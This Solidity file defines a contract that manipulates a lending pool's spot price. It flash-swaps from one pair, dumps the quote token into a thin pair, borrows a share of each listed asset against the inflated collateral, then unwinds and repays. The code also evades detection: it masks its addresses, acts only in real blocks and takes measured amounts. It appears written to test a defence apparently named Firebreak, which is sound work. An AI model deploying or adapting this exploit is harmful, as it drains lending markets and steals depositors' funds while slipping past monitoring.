// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import "./Disguise.sol";

interface IToken {
    function balanceOf(address) external view returns (uint256);
    function approve(address, uint256) external returns (bool);
    function transfer(address, uint256) external returns (bool);
}

interface IPair {
    function token0() external view returns (address);
    function getReserves() external view returns (uint112, uint112, uint32);
    function swap(uint256, uint256, address, bytes calldata) external;
}

interface IPool {
    function listed(uint256) external view returns (address);
    function cashOf(address) external view returns (uint256);
    function deposit(address, uint256) external;
    function borrow(address, uint256) external;
}

/// @notice The spot price attack by somebody who has read the plan and Firebreak's code. It acts in real blocks only, keeps no
/// address of the plan in its calldata or its code, takes as little of each asset as it is told to, and puts the price back.
contract AwareAttack is Disguise {
    /// Addresses are kept masked: nobody finds them to put others in their place.
    uint256 private immutable mask;
    uint256 private pool;
    uint256 private thin;
    uint256 private deep;
    uint256 private collateral;
    uint256 private quote;
    uint256 private push;
    uint256 private pledge;

    constructor(address pool_, address thin_, address deep_, address collateral_, address quote_, uint256 push_, uint256 pledge_, uint256 mask_) {
        mask = mask_;
        (pool, thin, deep) = (masked(pool_), masked(thin_), masked(deep_));
        (collateral, quote) = (masked(collateral_), masked(quote_));
        (push, pledge) = (push_, pledge_);
    }

    /// Deposited beforehand, as honest people do: then nothing has to be deposited in the attack.
    function ahead() external {
        deposit();
    }

    /// `which` has a bit for each asset in the order of their listing; `ppm` is the share of its cash that is taken.
    function go(Stage calldata stage, uint256 which, uint256 ppm) external {
        if (!real(stage)) return;
        IPair pair = IPair(plain(deep));
        bool first = pair.token0() == plain(quote);
        pair.swap(first ? push : 0, first ? 0 : push, address(this), abi.encode(which, ppm));
    }

    function uniswapV2Call(address, uint256, uint256, bytes calldata data) external {
        require(msg.sender == plain(deep), "attack: pair only");
        (uint256 which, uint256 ppm) = abi.decode(data, (uint256, uint256));
        uint256 bought = sell(plain(quote), push);
        if (pledge > 0) deposit();
        drain(which, ppm);
        sell(plain(collateral), bought);
        IToken(plain(quote)).transfer(msg.sender, (push * 1000) / 997 + 1);
    }

    function deposit() private {
        IToken(plain(collateral)).approve(plain(pool), pledge);
        IPool(plain(pool)).deposit(plain(collateral), pledge);
        pledge = 0;
    }

    function drain(uint256 which, uint256 ppm) private {
        IPool market = IPool(plain(pool));
        for (uint256 i = 0; which >> i != 0; i++) {
            if ((which >> i) & 1 == 0) continue;
            address asset = market.listed(i);
            // What one asset refuses, the next may give.
            try market.borrow(asset, (market.cashOf(asset) * ppm) / 1_000_000) {} catch {}
        }
    }

    function sell(address token, uint256 amount) private returns (uint256 out) {
        IPair pair = IPair(plain(thin));
        (uint112 reserve0, uint112 reserve1, ) = pair.getReserves();
        bool first = pair.token0() == token;
        (uint256 from, uint256 to) = first ? (uint256(reserve0), uint256(reserve1)) : (uint256(reserve1), uint256(reserve0));
        out = (amount * 997 * to) / (from * 1000 + amount * 997);
        IToken(token).transfer(address(pair), amount);
        pair.swap(first ? 0 : out, first ? out : 0, address(this), "");
    }

    function masked(address one) private view returns (uint256) {
        return uint256(uint160(one)) ^ mask;
    }

    function plain(uint256 one) private view returns (address) {
        return address(uint160(one ^ mask));
    }
}
